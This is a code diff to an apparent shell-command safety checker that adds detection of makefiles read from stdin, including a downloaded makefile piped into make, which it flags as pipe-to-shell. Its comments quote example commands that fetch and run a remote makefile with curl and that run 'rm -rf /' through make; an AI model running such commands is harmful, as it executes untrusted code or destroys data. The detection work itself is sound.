@@ -852,6 +852,28 @@ def _tsc(cmd: Cmd) -> None:
         cmd.add(M, "build", "tsc writes compiled output")
 
 
+_STDIN_FILES = frozenset({"-", "/dev/stdin", "/proc/self/fd/0", "/dev/fd/0"})
+
+
+def _makefile_on_stdin(cmd: Cmd) -> bool:
+    """`make -f -`, `-f /dev/stdin`, `--file=-`: the makefile is read from stdin."""
+    args = cmd.args
+    for k, w in enumerate(args):
+        t = w.text
+        if t in ("-f", "--file", "--makefile"):
+            if k + 1 < len(args) and args[k + 1].text in _STDIN_FILES:
+                return True
+            # (`make -f - <<EOF`: the grammar hangs the lone `-` on the heredoc)
+            if k + 1 == len(args) and cmd.scope.source[w.end : w.end + 4].split()[:1] == ["-"]:
+                return True
+        elif (
+            t.startswith(("--file=", "--makefile=", "-f"))
+            and (t.split("=", 1)[-1] if "=" in t else t[2:]) in _STDIN_FILES
+        ):
+            return True
+    return False
+
+
 def _make_recipes(text: str) -> str:
     """The recipe lines of Makefile text (tab-indented or after `target: ;`), as shell."""
     lines: list[str] = []
@@ -1121,19 +1143,17 @@ def _build_tool(cmd: Cmd) -> None:
     written = cmd.scope.written.get(
         makefile.text.rsplit("/", 1)[-1] if makefile is not None else "Makefile"
     ) or (cmd.scope.written.get("makefile") if makefile is None else None)
-    if (
-        makefile is not None
-        and makefile.text in ("-", "/dev/stdin", "/proc/self/fd/0", "/dev/fd/0")
-        and cmd.stdin.kind == "static"
-    ):
-        written = (cmd.stdin.text, -1)  # `make -f /dev/stdin <<< $'all:\n\trm -rf /'`
+    if cmd.stdin.kind == "network" and _makefile_on_stdin(cmd):
+        # `curl -s https://x/mk | make -f -`: a downloaded makefile's recipes run (b12)
+        cmd.add(C, "pipe-to-shell", f"{cmd.name} runs the recipes of a downloaded makefile")
+    if _makefile_on_stdin(cmd) and cmd.stdin.kind == "static":
+        # `make -f /dev/stdin <<< $'all:\n\trm -rf /'`, `make -f - <<EOF`: the makefile is
+        # the text on stdin
+        written = (cmd.stdin.text, -1)
     if cmd.name in ("make", "gmake") and written is not None:
-        # Recipe lines (tab-indented, `@`/`-` prefixes dropped) are shell commands.
-        recipe = "\n".join(
-            line.lstrip("\t").lstrip("@-+")
-            for line in written[0].splitlines()
-            if line.startswith("\t")
-        )
+        # Recipe lines (tab-indented or after `target: ;`, `@`/`-` prefixes dropped) are
+        # shell commands.
+        recipe = _make_recipes(written[0])
         if recipe.strip():
             _judge_written(cmd, recipe, "the Makefile written above")
 
